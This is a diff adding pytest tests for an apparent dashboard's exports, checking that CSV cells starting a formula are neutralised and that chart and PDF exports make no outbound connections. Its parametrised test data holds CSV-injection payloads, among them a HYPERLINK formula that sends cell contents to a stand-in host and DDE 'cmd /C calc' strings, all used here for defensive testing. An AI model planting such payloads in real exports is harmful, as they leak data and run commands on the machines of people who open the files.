@@ -255,3 +255,153 @@ def test_demo_report_pdf_fits_the_page_and_is_labelled(demo_report, tmp_path):
             if type(box).__name__ == "TableBox":
                 assert box.position_x + box.margin_width() <= width - 15 * 96 / 25.4 + 1, "a table overflows"
             stack.extend(getattr(box, "children", []))
+
+
+# --- CSV formula injection (OWASP "CSV injection": prefix = + - @ tab CR with ') ------------------------
+
+@pytest.mark.parametrize("name, cell, written", [
+    ("hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK"),
+    ("at-sum", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)"),
+    ("plus-cmd", "+cmd|' /C calc'!A0", "'+cmd|"),
+    ("minus-text", "-2+3+cmd|' /C calc'!A0", "'-2+3"),
+    ("tab", "\t=1+1", "'\t=1+1"),
+    ("carriage-return", "\r=1+1", "'\r=1+1"),
+    ("plain", "Press release", "Press release"),
+    ("inner-equals", "a=b", "a=b"),
+])
+def test_csv_text_cells_that_start_a_formula_are_prefixed(name, cell, written):
+    import csv
+    import io
+
+    data = exports.table_csv(pd.DataFrame({"title": [cell], "car": [-0.05]}))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert rows[0] == ["title", "car"]
+    assert rows[1][0].startswith(written) and rows[1][0].lstrip("'") == cell
+    assert rows[1][1] == "-0.05"  # a number column stays a number a spreadsheet can sum
+
+
+@pytest.mark.parametrize("name, frame, expected_rows", [
+    ("negative floats stay numbers", pd.DataFrame({"ar": [-0.05, 0.1]}), [["-0.05"], ["0.1"]]),
+    ("negative ints stay numbers", pd.DataFrame({"n": [-3, 4]}), [["-3"], ["4"]]),
+    ("dates untouched", pd.DataFrame({"d": pd.to_datetime(["1999-01-04"])}), [["1999-01-04"]]),
+    ("text that looks negative is text", pd.DataFrame({"s": ["-0.05"]}), [["'-0.05"]]),
+    ("missing text stays empty", pd.DataFrame({"s": [None, "x"]}), [[""], ["x"]]),
+    ("mixed object column: only the strings", pd.DataFrame({"m": pd.Series([-1, "=1"], dtype=object)}),
+     [["-1"], ["'=1"]]),
+    ("categorical text", pd.DataFrame({"c": pd.Series(["@x", "y"], dtype="category")}), [["'@x"], ["y"]]),
+])
+def test_csv_numbers_stay_numbers_and_only_text_is_neutralised(name, frame, expected_rows):
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(exports.table_csv(frame).decode("utf-8"), newline="")))
+    assert rows[1:] == expected_rows
+
+
+def test_csv_header_is_neutralised_too():
+    data = exports.table_csv(pd.DataFrame({"=cmd": [1], "ok": [2]})).decode("utf-8")
+    assert data.splitlines()[0] == "'=cmd,ok"
+
+
+def test_table_csv_is_the_only_csv_writer_of_the_dashboard():
+    """Every CSV a person downloads from the dashboard goes through exports.table_csv (grep the app)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[1]
+    offenders = []
+    for path in [root / "dashboard.py", *sorted((root / "app").rglob("*.py"))]:
+        text = path.read_text(encoding="utf-8")
+        for pattern in (r"\.to_csv\(", r"csv\.writer\(", r"csv\.DictWriter\("):
+            if re.search(pattern, text) and path.name != "exports.py":
+                offenders.append(f"{path.relative_to(root)}: {pattern}")
+    assert not offenders, offenders
+
+
+# --- no request leaves the machine during an export --------------------------------------------------
+
+_EXPORT_SCRIPT = r'''
+import sys
+import numpy as np, pandas as pd
+import plotly.graph_objects as go
+from app import exports, report
+fig = go.Figure(go.Scatter(x=[1, 2, 3], y=[1, 3, 2], name="simulated"))
+png, svg = exports.figure_png(fig), exports.figure_svg(fig)
+content = report.ReportContent(title="t", subtitle="s", simulated=True, sections={"Impact": ["x"]},
+                               figures=[("Price", fig)], tables=[("Table", pd.DataFrame({"a": [1.5]}))])
+pdf = report.report_pdf(report.report_html(content))
+assert png[:8] == b"\x89PNG\r\n\x1a\n" and b"<svg" in svg and pdf[:5] == b"%PDF-"
+print("exported")
+'''
+
+
+def _outbound(trace: str) -> list[str]:
+    """Non-loopback connect()s in an ``strace -f -e trace=socket,connect`` log, except Chromium's IPv6 probe.
+
+    Chromium's network service checks whether IPv6 is reachable by connect()ing a UDP socket to
+    2001:4860:4860::8888 port 443 (net/dns/host_resolver_manager.cc, IsGloballyReachable): a datagram
+    connect only sets the socket's peer, no packet leaves, so that one is allowed; any stream connect or any
+    other destination (a DNS server on port 53 included) is a request leaving the machine.
+    """
+    kinds: dict[tuple[str, str], str] = {}
+    found = []
+    for line in trace.splitlines():
+        m = re.match(r"(\d+)\s+socket\((AF_\w+), (SOCK_\w+).*\)\s+=\s+(\d+)", line)
+        if m:
+            kinds[(m.group(1), m.group(4))] = m.group(3)
+            continue
+        m = re.match(r"(\d+)\s+connect\((\d+), \{sa_family=(AF_INET6?), (.*?)\}", line)
+        if not m:
+            continue
+        pid, fd, family, addr = m.groups()
+        ip = re.search(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"', addr)
+        ip = ip and (ip.group(1) or ip.group(2))
+        if ip and (ip.startswith("127.") or ip in ("::1", "::ffff:127.0.0.1")):
+            continue
+        if kinds.get((pid, fd)) == "SOCK_DGRAM" and ip == "2001:4860:4860::8888" and "htons(443)" in addr:
+            continue
+        found.append(line.strip())
+    return found
+
+
+@pytest.mark.parametrize("name, trace, expected", [
+    ("loopback ok", '1 socket(AF_INET, SOCK_STREAM, 0) = 5\n'
+                    '1 connect(5, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("127.0.0.1")}, 16) = 0', 0),
+    ("dns lookup", '1 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 7\n'
+                   '1 connect(7, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("10.0.0.53")}, 16) = 0', 1),
+    ("https stream", '2 socket(AF_INET6, SOCK_STREAM, 0) = 9\n2 connect(9, {sa_family=AF_INET6, sin6_port=htons(443), '
+                     'sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:4860:4860::8888", &sin6_addr)}, 28) = 0', 1),
+    ("ipv6 probe", '3 socket(AF_INET6, SOCK_DGRAM, IPPROTO_IP) = 23\n3 connect(23, {sa_family=AF_INET6, '
+                   'sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:4860:4860::8888", '
+                   '&sin6_addr), sin6_scope_id=0}, 28) = 0', 0),
+])
+def test_outbound_detector(name, trace, expected):
+    assert len(_outbound(trace)) == expected
+
+
+def test_chart_and_pdf_exports_make_no_outbound_connection(tmp_path):
+    """PNG, SVG and the PDF report in a fresh process under strace: no connect() leaves the machine."""
+    import shutil
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    if not shutil.which("strace"):
+        pytest.fail("strace is missing: apt-get install strace (the test traces the export's connect() calls)")
+    root = Path(__file__).resolve().parents[1]
+    log = tmp_path / "strace.txt"
+    script = tmp_path / "export.py"
+    script.write_text(_EXPORT_SCRIPT)
+    done = subprocess.run(["strace", "-f", "-qq", "-e", "trace=socket,connect", "-o", str(log), sys.executable,
+                           str(script)], cwd=root, env={**__import__("os").environ, "PYTHONPATH": str(root)},
+                          capture_output=True, text=True, timeout=240)
+    assert done.returncode == 0 and "exported" in done.stdout, done.stderr[-3000:]
+    trace = log.read_text(errors="replace")
+    assert "connect(" in trace  # the trace saw the browser's own pipes and sockets
+    assert _outbound(trace) == []
+
+
+def test_offline_flags_are_on_the_browser_command_line():
+    cls = exports._offline_chromium_class()
+    assert cls.get_cli is not None
+    for flag in ("--disable-background-networking", "--no-first-run", "--disable-component-update"):
+        assert flag in exports.OFFLINE_CHROMIUM_FLAGS
